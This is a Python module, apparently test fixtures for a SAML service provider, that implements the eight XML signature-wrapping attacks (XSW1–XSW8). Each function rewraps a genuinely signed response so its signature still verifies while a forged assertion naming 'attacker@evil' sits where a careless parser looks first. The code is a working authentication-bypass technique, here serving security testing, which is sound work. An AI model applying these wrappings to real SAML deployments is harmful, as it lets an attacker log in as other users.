"""Rewrapping a genuinely signed response: the eight XML signature-wrapping variants.

After Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be"
(USENIX Security 2012). Each function takes the root of a signed response
(its assertion signed; for XSW1 and XSW2 the response too) and returns a
document in which the original signature still verifies, while an evil
assertion, naming the attacker, sits where a careless reader looks first.
"""

from __future__ import annotations

import copy
from collections.abc import Callable

from lxml import etree
from tests.federation.saml_idp import NS, SAMLP

ATTACKER = "attacker@evil"
"""The uid the evil assertion claims."""

Wrap = Callable[[etree._Element], etree._Element]


def _assertion(root: etree._Element) -> etree._Element:
    found = root.find("saml:Assertion", NS)
    assert found is not None
    return found


def _signature(element: etree._Element) -> etree._Element:
    found = element.find("ds:Signature", NS)
    assert found is not None
    return found


def _after_issuer(element: etree._Element) -> int:
    issuer = element.find("saml:Issuer", NS)
    return 0 if issuer is None else element.index(issuer) + 1


def evil_copy(assertion: etree._Element, identifier: str = "_evil") -> etree._Element:
    """Return an unsigned copy of *assertion* that names the attacker, with ID *identifier*."""
    evil = copy.deepcopy(assertion)
    for signature in evil.findall("ds:Signature", NS):
        evil.remove(signature)
    evil.set("ID", identifier)
    for value in evil.iterfind(".//saml:Attribute/saml:AttributeValue", NS):
        if value.getparent().get("Name") == "urn:mace:dir:attribute-def:uid":  # type: ignore[union-attr]
            value.text = ATTACKER
    name_id = evil.find("saml:Subject/saml:NameID", NS)
    assert name_id is not None
    name_id.text = ATTACKER
    return evil


def _evil_response(root: etree._Element) -> etree._Element:
    """Return an unsigned copy of the response with a new ID and the evil assertion."""
    evil = copy.deepcopy(root)
    evil.set("ID", "_evil-response")
    evil.remove(_signature(evil))
    assertion = _assertion(evil)
    evil.replace(assertion, evil_copy(assertion))
    return evil


def xsw1(root: etree._Element) -> etree._Element:
    """XSW1: an evil response at the root; the signed original inside the signature."""
    evil = _evil_response(root)
    signature = copy.deepcopy(_signature(root))
    signature.append(copy.deepcopy(root))
    evil.insert(_after_issuer(evil), signature)
    return evil


def xsw2(root: etree._Element) -> etree._Element:
    """XSW2: an evil response at the root; the signed original beside a detached signature."""
    evil = _evil_response(root)
    at = _after_issuer(evil)
    evil.insert(at, copy.deepcopy(_signature(root)))
    evil.insert(at, copy.deepcopy(root))
    return evil


def xsw3(root: etree._Element) -> etree._Element:
    """XSW3: the evil assertion before the signed original, at the same level."""
    original = _assertion(root)
    root.insert(root.index(original), evil_copy(original))
    return root


def xsw4(root: etree._Element) -> etree._Element:
    """XSW4: the evil assertion in the original's place, the signed original inside it."""
    original = _assertion(root)
    evil = evil_copy(original)
    root.replace(original, evil)
    evil.append(original)
    return root


def _signature_moved_into_evil(
    root: etree._Element,
) -> tuple[etree._Element, etree._Element]:
    """Put an evil copy in the original assertion's place, carrying its signature.

    Returns the original (unsigned now, out of the tree) and the signature.
    """
    original = _assertion(root)
    evil = evil_copy(original)
    signature = _signature(original)
    original.remove(signature)
    evil.insert(_after_issuer(evil), signature)
    root.replace(original, evil)
    return original, signature


def xsw5(root: etree._Element) -> etree._Element:
    """XSW5: the signature moved into the evil assertion; the original, unsigned, at the end."""
    original, _ = _signature_moved_into_evil(root)
    root.append(original)
    return root


def xsw6(root: etree._Element) -> etree._Element:
    """XSW6: the signature moved into the evil assertion; the original inside the signature."""
    original, signature = _signature_moved_into_evil(root)
    signature.append(original)
    return root


def xsw7(root: etree._Element) -> etree._Element:
    """XSW7: the evil assertion inside an Extensions element, before the signed original."""
    original = _assertion(root)
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    extensions.append(evil_copy(original))
    root.insert(_after_issuer(root), extensions)
    return root


def xsw8(root: etree._Element) -> etree._Element:
    """XSW8: the signature moved into the evil assertion; the original in a ds:Object in it."""
    original = _assertion(root)
    evil = evil_copy(original)
    signature = _signature(original)
    original.remove(signature)
    evil.insert(_after_issuer(evil), signature)
    root.replace(original, evil)
    holder = etree.SubElement(signature, "{http://www.w3.org/2000/09/xmldsig#}Object")
    holder.append(original)
    return root


WRAPPINGS: dict[str, Wrap] = {
    "XSW1": xsw1,
    "XSW2": xsw2,
    "XSW3": xsw3,
    "XSW4": xsw4,
    "XSW5": xsw5,
    "XSW6": xsw6,
    "XSW7": xsw7,
    "XSW8": xsw8,
}
"""The eight variants by the paper's names."""
